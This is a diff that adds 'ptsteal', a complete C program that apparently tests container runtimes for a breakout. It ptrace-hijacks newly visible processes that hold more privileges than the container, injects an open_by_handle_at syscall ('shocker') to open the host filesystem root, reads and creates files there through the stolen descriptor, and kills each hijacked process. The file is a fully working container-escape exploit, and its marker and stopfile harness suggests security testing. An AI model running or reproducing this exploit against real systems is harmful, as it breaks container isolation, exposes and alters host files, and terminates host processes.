@@ -1,0 +1,161 @@
+/* ptsteal MARKER STOPFILE: the attacker of a runtime whose process, once
+ * visible in the container's pid namespace, still holds capabilities the
+ * container lacks. Run inside a container with CAP_SYS_PTRACE (and
+ * nothing else that matters: no CAP_DAC_READ_SEARCH), it polls /proc for
+ * pids it has not seen, attaches to each (PTRACE_SEIZE: non-dumpable does
+ * not stop CAP_SYS_PTRACE), and at its next syscall entry replaces that
+ * syscall with open_by_handle_at(AT_FDCWD, {ext4 inode 2, generation 0},
+ * O_DIRECTORY): with CAP_DAC_READ_SEARCH in the host's user namespace that
+ * opens the root directory of the filesystem the container's root lives
+ * on ("shocker"). The fd is taken with pidfd_getfd and MARKER (a path on
+ * that filesystem, relative to its root) is read and a file created next
+ * to it. Lines: "READ handle PID: content", "CREATED handle PID",
+ * "ERRNO PID: n" (what the injected call returned), and at the end
+ * "seen N attached M injected K". Stops when STOPFILE exists (or after
+ * 600 s). */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MAX_PID (1 << 22)
+
+static unsigned char known[MAX_PID];
+static const char *marker;
+static long seen, attached, injected;
+
+static void steal(int pid, long fdnum)
+{
+        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+        int fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, (int)fdnum, 0);
+        if (pidfd >= 0)
+                close(pidfd);
+        if (fd < 0) {
+                printf("GETFD %d: errno %d\n", pid, errno);
+                return;
+        }
+        int m = openat(fd, marker, O_RDONLY | O_CLOEXEC);
+        if (m >= 0) {
+                char buf[128];
+                ssize_t n = read(m, buf, sizeof buf - 1);
+                buf[n > 0 ? n : 0] = '\0';
+                buf[strcspn(buf, "\n")] = '\0';
+                printf("READ handle %d: %s\n", pid, buf);
+                close(m);
+        }
+        char p[4200];
+        snprintf(p, sizeof p, "%s.%d.handle", marker, pid);
+        int c = openat(fd, p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
+        if (c >= 0) {
+                printf("CREATED handle %d\n", pid);
+                close(c);
+        }
+        close(fd);
+}
+
+/* Attached and stopped: run to a syscall entry and replace the call. */
+static void inject(int pid)
+{
+        int st;
+        for (int i = 0; i < 64; i++) {
+                if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 ||
+                    !WIFSTOPPED(st))
+                        return;
+                if (WSTOPSIG(st) != (SIGTRAP | 0x80))
+                        continue;
+                struct __ptrace_syscall_info info;
+                if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof info, &info) <= 0 ||
+                    info.op != PTRACE_SYSCALL_INFO_ENTRY)
+                        continue;
+                struct user_regs_struct r;
+                if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
+                        return;
+                /* struct file_handle {u32 bytes = 8; int type = 1
+                 * (FILEID_INO32_GEN); u32 ino = 2; u32 gen = 0}, below the
+                 * red zone of the tracee's stack. */
+                unsigned long at = (r.rsp - 4096) & ~15UL;
+                if (ptrace(PTRACE_POKEDATA, pid, at, (void *)((1UL << 32) | 8)) < 0 ||
+                    ptrace(PTRACE_POKEDATA, pid, at + 8, (void *)2UL) < 0)
+                        return;
+                r.orig_rax = SYS_open_by_handle_at;
+                r.rdi = (unsigned long)AT_FDCWD;
+                r.rsi = at;
+                r.rdx = O_RDONLY | O_DIRECTORY;
+                if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 ||
+                    ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 ||
+                    !WIFSTOPPED(st) || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
+                        return;
+                injected++;
+                if ((long)r.rax >= 0)
+                        steal(pid, (long)r.rax);
+                else
+                        printf("ERRNO %d: %ld\n", pid, -(long)r.rax);
+                return;
+        }
+}
+
+static void attack(int pid)
+{
+        if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL) < 0)
+                return;
+        attached++;
+        int st;
+        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
+            WIFSTOPPED(st))
+                inject(pid);
+        fflush(stdout);
+        kill(pid, SIGKILL); /* whatever it was, it is ours now: end it */
+        while (waitpid(pid, &st, __WALL) == pid && !WIFEXITED(st) && !WIFSIGNALED(st))
+                ;
+}
+
+static void pass(int first)
+{
+        DIR *d = opendir("/proc");
+        if (!d)
+                return;
+        struct dirent *e;
+        while ((e = readdir(d))) {
+                char *end;
+                long pid = strtol(e->d_name, &end, 10);
+                if (*end || pid <= 1 || pid >= MAX_PID || pid == getpid() || known[pid])
+                        continue;
+                known[pid] = 1;
+                if (first)
+                        continue;
+                seen++;
+                attack((int)pid);
+        }
+        closedir(d);
+}
+
+int main(int argc, char **argv)
+{
+        if (argc != 3 || argv[1][0] == '/') {
+                fprintf(stderr, "usage: ptsteal MARKER-RELATIVE-TO-FS-ROOT STOPFILE\n");
+                return 2;
+        }
+        marker = argv[1];
+        pass(1);
+        int r = open("/tmp/ptsteal.ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+        if (r >= 0)
+                close(r);
+        time_t end = time(NULL) + 600;
+        for (unsigned long n = 0;; n++) {
+                pass(0);
+                if ((n & 255) == 0 && (access(argv[2], F_OK) == 0 || time(NULL) > end))
+                        break;
+        }
+        printf("seen %ld attached %ld injected %ld\n", seen, attached, injected);
+        return 0;
+}
